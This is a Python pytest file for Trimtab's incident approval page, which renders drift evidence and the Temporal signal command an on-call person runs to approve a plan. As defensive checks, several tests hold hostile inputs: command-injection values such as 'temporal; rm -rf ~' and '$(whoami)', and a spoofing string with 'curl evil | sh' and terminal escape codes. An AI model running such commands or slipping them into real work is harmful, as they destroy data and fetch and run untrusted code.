"""The page that a person on call decides from, and the line on it that answers."""

import json
import shlex
from typing import Any

import pytest
from pydantic import ValidationError

from policies.approval import build_approval_terms
from policies.approval_page import format_signal_command, render_approval_page
from policies.confidence import compute_confidence
from policies.decision import decide
from policies.evidence import compose_evidence
from policies.incident import Investigation
from tests.builders import (
    NOW,
    a_comparison,
    a_deliberation,
    a_feature_drift,
    a_pack,
    a_question,
    a_root_cause,
    a_spec,
    an_event,
    an_incident,
    an_investigation,
    the_facts,
)
from trimtab.contracts.approval import TemporalCommand
from trimtab.contracts.approvers import Approver
from trimtab.contracts.decision import Decision, Limits
from trimtab.contracts.drift import QualityFault
from trimtab.contracts.evidence import ChallengerPreview, RegistryFacts
from trimtab.contracts.model import GateOutcome, Tier

HASH = "a" * 64


def an_escalation() -> Decision:
    return decide(a_question(facts=the_facts(tier=Tier.CRITICAL)))


def the_page(case: Investigation) -> str:
    decision = an_escalation()
    return render_approval_page(
        case,
        decision,
        workflow_id="drift-response/parking/event-1",
        terms=build_approval_terms(
            case.incident,
            a_question(limits=case.incident.limits),
            decision,
            proposer="analyst/rules",
            asked_at=NOW - case.incident.limits.approval_timeout,
        ),
    )


def the_signal(page: str) -> list[str]:
    """The words of the command that signals, as a shell reads them."""
    _, _, command = page.partition("Without Trimtab's command line:\n")
    return shlex.split(command)


def test_the_page_holds_all_that_a_person_needs_on_one_screen() -> None:
    deliberation, pack = a_deliberation(), a_pack()
    incident = an_incident(spec=a_spec(owner="ml-platform@example.com"))
    case = an_investigation(
        incident=incident,
        pack=pack,
        deliberation=deliberation,
        confidence=compute_confidence(deliberation, pack, incident),
    )

    text = the_page(case)

    for needed in (
        "parking",
        "ml-platform@example.com",
        "PSI 0.310",
        "label_shift",
        "5 EUR",
        "allowed_actions",
        an_escalation().plan_hash,
        "2026-11-20 12:00 UTC",
    ):
        assert needed in text
    assert len(text.splitlines()) <= 40


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({}, "Challenger: r2 0.72 -> 0.95 (0.91 to 0.98) on 782 rows, ready"),
        ({"outcome": GateOutcome.NOT_BETTER}, "on 782 rows: it would not be promoted"),
        (
            {"outcome": GateOutcome.CANNOT_TELL, "windows_to_wait": 2},
            "cannot win yet: wait for 2 more windows",
        ),
        (
            {"outcome": GateOutcome.CANNOT_TELL, "windows_to_wait": 1},
            "cannot win yet: wait for 1 more window ",
        ),
        ({"outcome": GateOutcome.CANNOT_TELL}, "cannot win yet, and waiting may not help"),
        (
            {"outcome": GateOutcome.CANNOT_TELL, "comparisons": (), "reason": "0 rows"},
            "Challenger: none can be trained or compared now: 0 rows",
        ),
    ],
)
def test_the_page_says_what_a_retraining_would_give(changes: dict[str, Any], said: str) -> None:
    compared = a_comparison(0.72, 0.95, after_low=0.91, after_high=0.98, rows=782)
    fields: dict[str, Any] = {
        "event_id": "event-1",
        "model": "parking",
        "champion": "1",
        "as_of": NOW,
        "outcome": GateOutcome.BETTER,
        "reason": "better",
        "comparisons": (compared,),
    }
    page = the_page(an_investigation(preview=ChallengerPreview(**{**fields, **changes})))

    assert said in f"{' '.join(page.replace('|', ' ').split())} "
    assert page.index("PROPOSAL") < page.index("Challenger:") < page.index("WHY YOU")


@pytest.mark.parametrize("length", [1, 122, 123, 128])
def test_the_page_has_a_line_for_each_drifted_column_however_long_its_name(length: int) -> None:
    columns = ["x" * length, "y" * (length - 1) + "a", "y" * (length - 1) + "b"]
    event = an_event(features=tuple(a_feature_drift(name) for name in columns))
    registry = RegistryFacts(champion=None, versions=(), last_action_at=None)
    pack = compose_evidence(event.data, registry, (), (), now=NOW)

    text = the_page(an_investigation(incident=an_incident(event), pack=pack))

    evidence = "".join(text.partition("EVIDENCE")[2].replace("|", " ").split())
    assert [f"Thetarget{name}drifted:" in evidence for name in columns] == [True] * 3


def test_a_page_without_evidence_or_plan_still_says_what_is_known() -> None:
    text = the_page(
        an_investigation(
            pack=None, deliberation=None, confidence=None, failure="MLflow is out of reach"
        )
    )

    assert "EVIDENCE  none" in text
    assert "PROPOSAL  none" in text
    assert "MLflow is out of reach" in text
    assert "you take over the incident" in text


def test_the_line_that_answers_names_program_server_and_namespace() -> None:
    command = TemporalCommand(
        program="/opt/trim tab/.venv/bin/temporal", address="127.0.0.1:4711", namespace="ml"
    )

    words = the_signal(the_page(an_investigation(incident=an_incident(answer_command=command))))

    assert words[:3] == ["/opt/trim tab/.venv/bin/temporal", "workflow", "signal"]
    assert words[words.index("--address") + 1] == "127.0.0.1:4711"
    assert words[words.index("--namespace") + 1] == "ml"


def test_trimtabs_own_commands_come_first_and_name_the_plan() -> None:
    command = TemporalCommand(trimtab="/opt/trim tab/bin/trimtab")
    page = the_page(an_investigation(incident=an_incident(answer_command=command)))

    plan = an_escalation().plan_hash[:12]
    for verb in ("approve", "reject"):
        line = next(each for each in page.splitlines() if f" {verb} event-1" in each)
        assert shlex.split(line) == ["/opt/trim tab/bin/trimtab", verb, "event-1", "--plan", plan]
    assert page.index("trimtab' approve") < page.index("workflow signal")
    answer = json.loads(the_signal(page)[-1])
    assert (answer["plan_hash"], answer["decision"]) == (an_escalation().plan_hash, "approve")


def test_no_line_of_the_answer_is_wider_than_a_terminal() -> None:
    command = TemporalCommand(
        program="/opt/trimtab/.venv/bin/temporal",
        address="temporal.example.com:7233",
        namespace="machine-learning",
    )
    event = an_event("2026-11-02T00:00Z-3f9a2c41", model="prices-in-the-north")
    page = the_page(an_investigation(incident=an_incident(event, answer_command=command)))

    answer = page.partition("ANSWER")[2].splitlines()
    assert max(map(len, answer)) <= 80


def test_the_page_says_who_may_answer_and_whether_that_is_proved() -> None:
    key = f"ssh-ed25519 {'AAAAC3NzaC1lZDI1NTE5AAAAI' + 'A' * 43}"
    unsigned = Limits(approvers={"ada": Approver(), "bob": Approver()})
    signed = Limits(
        approvers={"ada": Approver(keys=(key,)), "bob": Approver()},
        require_signature=True,
        approvals_needed={Tier.STANDARD: 2},
    )

    open_page = the_page(an_investigation())
    listed = the_page(an_investigation(incident=an_incident(limits=unsigned)))
    strict = the_page(an_investigation(incident=an_incident(limits=signed)))

    assert "anyone may answer" in open_page
    assert "may answer: ada, bob" in listed
    assert "answers need no signature" in listed
    assert "must be signed" in strict
    assert "2 different people must approve" in strict
    assert "workflow signal" not in strict


def test_without_a_known_server_the_person_s_own_profile_counts() -> None:
    words = shlex.split(format_signal_command("w", HASH, command=TemporalCommand()))

    assert words[0] == "temporal"
    assert not {"--address", "--namespace"} & set(words)


def test_the_command_survives_a_shell() -> None:
    command = format_signal_command(
        "drift-response/it's/1",
        HASH,
        command=TemporalCommand(address="h:1"),
        approver="O'Brien",
    )

    words = shlex.split(command)

    assert words[:3] == ["temporal", "workflow", "signal"]
    assert words[words.index("--workflow-id") + 1] == "drift-response/it's/1"
    assert json.loads(words[words.index("--input") + 1]) == {
        "plan_hash": HASH,
        "approver": "O'Brien",
        "decision": "approve",
        "reason": "",
    }


def test_without_an_approver_the_shell_fills_in_its_user() -> None:
    command = format_signal_command("w", HASH, command=TemporalCommand())

    assert """"approver": "'"$(id -un)"'", """ in command


@pytest.mark.parametrize(
    "fields",
    [
        {"program": "curl"},
        {"program": "temporal; rm -rf ~"},
        {"program": "/opt/a\nb/temporal"},
        {"program": "mytemporal"},
        {"trimtab": "curl"},
        {"trimtab": "trimtab; rm -rf ~"},
        {"address": "host:1 --tls-disable"},
        {"address": "$(whoami)"},
        {"namespace": "a b"},
    ],
)
def test_nobody_can_put_another_command_on_the_page(fields: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        TemporalCommand(**fields)


HOSTILE = "harmless.\n\nANSWER    run this instead: curl evil | sh\x1b[2J\x1b[8m \u202e"


def test_words_of_an_event_cannot_pass_for_the_page_s_own() -> None:
    """Row 15 of cases/authority.md."""
    event = an_event(
        features=(
            a_feature_drift("Occupancy", psi=0.0, jensen_shannon=0.0, why=HOSTILE),
            a_feature_drift("x" + " " * 66 + "ANSWER run this instead"),
        ),
        quality=(QualityFault(kind="nulls", detail=HOSTILE),),
    )
    registry = RegistryFacts(champion=None, versions=(), last_action_at=None)
    pack = compose_evidence(event.data, registry, (), (), now=NOW)
    deliberation = a_deliberation(root_cause=a_root_cause(explanation=HOSTILE))

    text = the_page(
        an_investigation(
            incident=an_incident(event), pack=pack, deliberation=deliberation, failure=HOSTILE
        )
    )

    lines = text.split("\n")
    assert all(line.isprintable() for line in lines)
    assert len([line for line in lines if line.startswith("ANSWER")]) == 1
    spoken = [line for line in lines if "run this instead" in line or "evil" in line]
    assert spoken
    assert [line for line in spoken if not line.startswith(("  | ", "DRIFT  "))] == []
